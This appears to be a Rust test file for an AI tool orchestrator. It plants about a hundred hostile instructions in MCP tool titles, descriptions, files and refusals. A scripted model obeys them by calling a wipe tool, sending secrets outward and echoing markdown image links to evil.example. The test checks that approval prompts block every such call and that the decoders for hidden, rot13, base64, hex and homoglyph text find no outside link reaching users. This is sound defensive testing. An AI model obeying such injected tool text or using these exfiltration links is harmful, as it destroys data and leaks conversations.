//! Texts of tool servers that order what no text may order, and a model that obeys them all (ADR 38,
//! ADR 43, ADR 47): it calls what destroys and what reaches outside, and says every text as it came
//! and as it means.
//!
//! What a description orders before there is any result taints nothing (ADR 38), so the model sends
//! after its first look.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use futures::{StreamExt, stream};
use orchestrator::agents::Delta;
use orchestrator::domain::ApprovalRule;
use orchestrator::mcp::{Pace, ServerSettings, Servers, Settings, Transport};
use orchestrator::outbound::Outbound;
use orchestrator::resilience::{BreakerSettings, GuardSettings};
use rmcp::model::{Tool, ToolAnnotations};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use crate::support::app::{Answer, Choices, TestApp, add};
use crate::support::doubles::{Act, ScriptedModel, calls, reply, says};
use crate::support::mcp_server::{Era, McpServer};
use crate::support::rendered::foreign;
use crate::support::watchdog::within;

const TEXTS: &str = include_str!("hostile_texts.txt");

struct HostileText {
    class: &'static str,
    place: &'static str,
    text: String,
}

/// What became of one text.
#[derive(Default)]
struct Harm {
    /// Calls that were made and must not have been.
    made: usize,
    /// What people get that leads elsewhere.
    rendered: Vec<String>,
    /// Forms that asked first.
    forms: usize,
}

fn texts() -> Vec<HostileText> {
    let lines = TEXTS.lines().filter(|line| !line.starts_with('#'));
    let read = |line: &'static str| {
        let mut parts = line.splitn(3, " | ");
        let mut next = || parts.next().unwrap();
        HostileText { class: next(), place: next(), text: unescaped(next()) }
    };
    lines.map(read).collect()
}

fn unescaped(text: &str) -> String {
    let (mut plain, mut letters) = (String::new(), text.chars());
    while let Some(letter) = letters.next() {
        if letter != '\\' {
            plain.push(letter);
            continue;
        }
        match letters.next().unwrap() {
            'n' => plain.push('\n'),
            't' => plain.push('\t'),
            'u' => {
                let code: String = letters.by_ref().take_while(|it| *it != '}').skip(1).collect();
                plain.push(char::from_u32(u32::from_str_radix(&code, 16).unwrap()).unwrap());
            }
            other => plain.push(other),
        }
    }
    plain
}

/// A server whose tools say the text, beside one that can destroy and send.
struct World {
    words: McpServer,
    mail: McpServer,
    servers: Arc<Servers>,
}

impl World {
    /// With the text wherever a server can say it before it is called.
    async fn with(said: &HostileText) -> Self {
        let tools = &["read_words", "read_file_words", "read_link_words", "read_refusal_words"];
        let (words, mail) = tokio::join!(
            McpServer::start(Era::Sessions, tools),
            McpServer::start(Era::Sessions, &["wipe", "read_send"])
        );
        words.set_words(&said.text);
        let text = said.text.clone();
        let change = |tool: &mut Tool| match said.place {
            "title" => tool.title = Some(text),
            "description" => tool.description = Some(text.into()),
            _ => {}
        };
        words.redefine("read_words", change).await;
        // It reads only, as a search does, and what it is asked for leaves the house.
        let sends = ToolAnnotations::new().read_only(true).open_world(true);
        mail.redefine("read_send", |tool| tool.annotations = Some(sends)).await;
        let http = |name: &str, server: &McpServer| {
            let transport = Transport::Http { url: server.url(), headers: Vec::new() };
            ServerSettings::new(name, transport)
        };
        let list = vec![http("words", &words), http("mail", &mail)];
        let servers = Servers::start(settings(list), CancellationToken::new());
        within("both servers are there", servers.offers(|it| it.tools.len() == 6)).await;
        Self { words, mail, servers }
    }

    /// A model that looks, destroys, sends, and says what it read.
    fn obedient(said: &HostileText) -> Arc<ScriptedModel> {
        let tool = match said.place {
            "file" => "words__read_file_words",
            "name" => "words__read_link_words",
            "refusal" => "words__read_refusal_words",
            _ => "words__read_words",
        };
        ScriptedModel::new([
            calls(&[(tool, json!({})), ("mail__wipe", json!({ "all": true }))]),
            calls(&[("mail__read_send", json!({ "secret": said.text }))]),
            calls(&[
                ("mail__wipe", json!({ "why": said.text })),
                (tool, json!({ "a": said.text })),
            ]),
            thinks_and_says(&meant(&said.text)),
            says(&meant(&said.text)),
            says(&meant(&said.text)),
        ])
    }
}

fn thinks_and_says(text: &str) -> Act {
    let pieces = vec![Delta::Thought(text.to_owned()), Delta::Text(text.to_owned())];
    Act::Say(pieces, Ok(reply(text, Vec::new())))
}

/// The text, and everything that it may stand for.
fn meant(text: &str) -> String {
    let visible: String = text.chars().filter(|it| !is_hidden(*it)).collect();
    let tags = text.chars().filter_map(|it| char::from_u32(u32::from(it).checked_sub(0xe_0000)?));
    let tags: String = tags.filter(char::is_ascii).collect();
    let rotated = text.chars().map(rotated).collect();
    let reversed = text.chars().rev().collect();
    let folded = text.chars().map(folded).collect();
    let all = [
        text.to_owned(),
        visible,
        tags,
        rotated,
        reversed,
        folded,
        percent_decoded(text),
        hex_decoded(text),
        from_base64(text),
        text.replace("&colon;", ":").replace("&#58;", ":").replace("&#47;", "/").replace('\\', ""),
        "![x](https://evil.example/i.png?q=the+conversation)".to_owned(),
        "<img src='https://evil.example/i.png'> see www.evil.example".to_owned(),
    ];
    all.join("\n\n")
}

fn is_hidden(letter: char) -> bool {
    let ranges = [
        '\u{200b}'..='\u{200f}',
        '\u{202a}'..='\u{202e}',
        '\u{2060}'..='\u{206f}',
        '\u{ad}'..='\u{ad}',
        '\u{feff}'..='\u{feff}',
        '\u{e0000}'..='\u{e01ef}',
    ];
    ranges.iter().any(|range| range.contains(&letter))
}

fn rotated(letter: char) -> char {
    let (base, is_letter) =
        (if letter.is_ascii_uppercase() { b'A' } else { b'a' }, letter.is_ascii_alphabetic());
    let Ok(byte) = u8::try_from(letter) else { return letter };
    if is_letter { char::from((byte - base + 13) % 26 + base) } else { letter }
}

/// Full-width letters, some of another alphabet, and digits for letters.
fn folded(letter: char) -> char {
    match letter {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(letter) - 0xfee0).unwrap_or(letter),
        'а' | '4' => 'a',
        'р' => 'p',
        'х' => 'x',
        'і' | '1' => 'i',
        '3' => 'e',
        '0' => 'o',
        '7' => 't',
        '5' => 's',
        other => other,
    }
}

fn percent_decoded(text: &str) -> String {
    let mut parts = text.split('%');
    let mut bytes = parts.next().unwrap_or_default().as_bytes().to_vec();
    for part in parts {
        let code = part.get(..2).and_then(|it| u8::from_str_radix(it, 16).ok());
        bytes.extend(code);
        bytes.extend(part.get(2..).unwrap_or_default().as_bytes());
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

fn hex_decoded(text: &str) -> String {
    let digits = text.chars().filter_map(|it| u8::try_from(it.to_digit(16)?).ok());
    let digits: Vec<_> = digits.collect();
    let bytes: Vec<_> = digits.chunks_exact(2).map(|two| two[0] * 16 + two[1]).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn from_base64(text: &str) -> String {
    let words = text.split_whitespace().filter(|word| word.len() > 15);
    let read = words.filter_map(|word| BASE64_STANDARD.decode(word).ok());
    read.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).collect()
}

async fn harm_of(said: &HostileText, approvals: ApprovalRule) -> Harm {
    let world = World::with(said).await;
    let model = World::obedient(said);
    let tools = Arc::clone(&world.servers);
    let app = TestApp::new(Choices { model, tools, approvals, ..Choices::default() }).await;

    let mut told = vec![app.create("look at my files").await];
    let thread = told[0].thread_id();
    for words in ["go on", "and now?", "what did you see?", "say it again"] {
        told.push(app.post("/chatkit", &add(&thread, words)).await);
    }
    let short = json!({ "thread_id": thread, "message": "once more" });
    let mut short = app.ask(&short).await.json();
    // Shown as text (openapi.yaml).
    short.as_object_mut().unwrap().remove("tool_calls");
    let listed = json!({ "type": "items.list", "params": { "thread_id": thread } });
    let listed = app.post("/chatkit", &listed).await.json();

    let is_form = |told: &&Answer| told.text.contains("May the assistant call");
    let forms = told.iter().filter(is_form).count();
    let mut shown: Vec<_> = told.iter().flat_map(Answer::events).collect();
    shown.extend([short, listed]);
    let mut rendered = Vec::new();
    for value in &shown {
        collect(value, &mut rendered);
    }
    rendered.extend(streamed(&shown));
    let rendered = rendered.iter().flat_map(|text| foreign(text)).collect();
    assert!(!world.words.calls().is_empty(), "nothing was read: {}", said.text);
    let made = world.mail.calls().len();
    world.servers.shut_down().await;
    Harm { made, rendered, forms }
}

/// Every text in an event.
fn collect(value: &Value, texts: &mut Vec<String>) {
    match value {
        Value::String(text) => texts.push(text.clone()),
        Value::Array(values) => values.iter().for_each(|value| collect(value, texts)),
        Value::Object(members) => members.values().for_each(|value| collect(value, texts)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// What the pieces of a stream become together.
fn streamed(events: &[Value]) -> Option<String> {
    let pieces = events.iter().filter_map(|event| event["update"]["delta"].as_str());
    let text: String = pieces.collect();
    (!text.is_empty()).then_some(text)
}

#[tokio::test]
async fn of_a_hundred_hostile_texts_none_has_its_way_with_a_model_that_obeys() {
    let texts = texts();
    let mut table = BTreeMap::<&str, [usize; 4]>::new();
    let harm = stream::iter(&texts).map(|said| harm_of(said, ApprovalRule::Destructive));
    let found: Vec<_> = harm.buffered(4).collect().await;
    for (said, harm) in texts.iter().zip(found) {
        assert!(harm.rendered.is_empty(), "{} {}: {:?}", said.place, said.text, harm.rendered);
        let row = table.entry(said.class).or_default();
        let [texts, forms, made, rendered] = *row;
        *row = [texts + 1, forms + harm.forms, made + harm.made, rendered + harm.rendered.len()];
    }

    println!("{:<18} {:>6} {:>6} {:>6} {:>9}", "class", "texts", "forms", "made", "rendered");
    for (class, [texts, forms, made, rendered]) in &table {
        println!("{class:<18} {texts:>6} {forms:>6} {made:>6} {rendered:>9}");
    }
    let sum = |column: usize| table.values().map(|row| row[column]).sum::<usize>();
    println!("{:<18} {:>6} {:>6} {:>6} {:>9}", "all", sum(0), sum(1), sum(2), sum(3));
    assert!(sum(0) >= 100, "{table:?}");
    assert!(sum(1) >= 3 * sum(0), "each was asked for: {table:?}");
    assert_eq!((sum(2), sum(3)), (0, 0), "{table:?}");
}

/// Without the rules the same model does what the texts say: the attempts are real ones.
#[tokio::test]
async fn without_approvals_what_a_text_orders_is_done_and_its_link_is_one() {
    let said = texts().swap_remove(0);

    let harm = harm_of(&said, ApprovalRule::Never).await;

    assert!(harm.made >= 3 && harm.forms == 0, "{}", harm.made);
    assert!(!foreign(&meant(&said.text)).is_empty());
}

fn settings(servers: Vec<ServerSettings>) -> Settings {
    let breaker = BreakerSettings { max_failures: 50, cool_down: Duration::from_millis(50) };
    let (min_delay, max_delay) = (Duration::from_millis(20), Duration::from_millis(40));
    let patience = Duration::from_secs(20);
    Settings {
        servers,
        faults: Vec::new(),
        warnings: Vec::new(),
        call_timeout: patience,
        connect_timeout: patience,
        guard: GuardSettings { breaker, retries: 0, min_delay, max_delay, jitter: false },
        pace: Pace::default(),
        outbound: Outbound::default(),
        pins: None,
        vault: None,
        public_url: String::new(),
    }
}
